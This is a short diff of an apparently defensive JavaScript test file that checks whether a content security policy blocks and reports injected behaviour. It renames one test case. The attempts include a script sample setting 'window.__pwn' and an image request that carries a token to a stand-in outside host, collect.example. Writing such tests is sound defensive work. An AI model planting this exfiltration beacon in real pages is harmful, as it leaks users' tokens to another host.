@@ -23,7 +23,7 @@ const attempts = [
     expected: '"sample":"HTMLScriptElement text|window.__pwn = 1"',
   },
   {
-    name: "an image whose address carries a token to another host",
+    name: "an image with a token in its address on another host",
     insert: () => void (new Image().src = "https://collect.example/token"),
     expected: '"blockedURL":"https://collect.example/token"',
   },
